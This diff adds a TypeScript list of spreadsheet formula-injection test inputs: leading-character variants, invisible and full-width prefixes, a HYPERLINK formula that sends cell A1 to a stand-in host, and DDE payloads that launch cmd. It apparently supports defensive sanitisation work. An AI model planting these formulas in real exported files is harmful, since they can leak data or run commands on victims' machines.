@@ -1,0 +1,22 @@
+/** What spreadsheets run, or may run, when it stands at the beginning of a cell. */
+export const FORMULAS = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\u0000=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '=HYPERLINK("http://example.invalid?"&A1,"x")',
+  "=cmd|'/c calc'!A0",
+  '-2+3+cmd|a!A0',
+] as const;
